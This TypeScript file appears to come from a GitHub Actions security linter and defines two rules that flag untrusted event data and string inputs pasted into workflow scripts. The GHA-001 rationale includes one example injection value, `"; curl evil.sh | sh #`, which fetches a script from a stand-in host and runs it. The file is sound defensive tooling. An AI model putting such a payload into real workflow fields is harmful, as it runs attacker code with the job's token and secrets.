import type { Provenance } from "../../model.js";
import { envName, inputName, untrustedField } from "../contexts.js";
import { resolveEnv } from "../model.js";
import { allSteps, codeExpressions, hasTrigger, SECURITY_HARDENING, workflowRule } from "./define.js";

export const scriptInjection = workflowRule({
  id: "GHA-001",
  title: "Untrusted event data is expanded into a script",
  severity: "high",
  rationale:
    "`${{ }}` is substituted into the script text before the shell runs it, so an issue title, PR title, branch name or commit message such as `\"; curl evil.sh | sh #` becomes code running with the job's token and secrets. Quoting does not help: the quotes are part of the attacker's text.",
  remediation:
    'Pass the value through an environment variable and use it quoted: `env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"`. In actions/github-script, read `context.payload` instead.',
  references: [
    SECURITY_HARDENING + "#understanding-the-risk-of-script-injections",
    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    "https://cwe.mitre.org/data/definitions/78.html",
  ],
  check(workflow, report) {
    for (const { job, step } of allSteps(workflow))
      for (const expression of codeExpressions(step)) {
        let field: string | undefined;
        const provenance: Provenance[] = [];
        for (const path of expression.sources) {
          field = untrustedField(path);
          if (field) break;
          // `${{ env.TITLE }}` is expanded like any other expression: the env indirection only
          // helps when the shell reads `$TITLE` itself.
          const name = envName(path);
          const variable = name ? resolveEnv(workflow, job, step, name) : undefined;
          const inner = variable?.expressions
            .flatMap((e) => e.sources)
            .map(untrustedField)
            .find(Boolean);
          if (variable && inner) {
            field = inner;
            provenance.push({
              description: `env.${variable.name} is set from ${inner}`,
              span: variable.span,
            });
            break;
          }
        }
        if (!field) continue;
        report({
          message: `\${{ ${expression.source} }} puts ${field}, which outsiders control, into the ${step.run ? "script" : "github-script code"}`,
          span: expression.span,
          resource: step.address,
          provenance,
        });
      }
  },
});

const SAFE_INPUT_TYPES = new Set(["boolean", "number", "choice", "environment"]);

export const inputInjection = workflowRule({
  id: "GHA-014",
  title: "A workflow or action input is expanded into a script",
  severity: "medium",
  rationale:
    "String inputs are pasted into the script text before the shell parses it. Whoever can dispatch the workflow (write access), call it, or pass inputs to the action can run commands with the job's token and secrets, a step beyond what the input was meant to allow.",
  remediation:
    'Pass the input through an environment variable and quote it: `env: VERSION: ${{ inputs.version }}` then `run: ./release.sh "$VERSION"`; or declare it `type: choice`/`boolean`.',
  references: [
    SECURITY_HARDENING + "#using-an-intermediate-environment-variable",
    "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#onworkflow_dispatchinputs",
  ],
  check(workflow, report) {
    const takesInputs =
      workflow.kind === "action" || hasTrigger(workflow, "workflow_dispatch", "workflow_call");
    if (!takesInputs) return;
    for (const { step } of allSteps(workflow))
      for (const expression of codeExpressions(step)) {
        const name = expression.sources.map(inputName).find((n) => {
          if (!n) return false;
          const input = workflow.inputs.get(n);
          return !input || !SAFE_INPUT_TYPES.has(input.type.toLowerCase());
        });
        if (!name) continue;
        const input = workflow.inputs.get(name);
        report({
          message: `\${{ ${expression.source} }} pastes the input ${input?.name ?? name} into the ${step.run ? "script" : "github-script code"}`,
          span: expression.span,
          resource: step.address,
          provenance: input
            ? [{ description: `input ${input.name} (type ${input.type})`, span: input.span }]
            : [],
        });
      }
  },
});
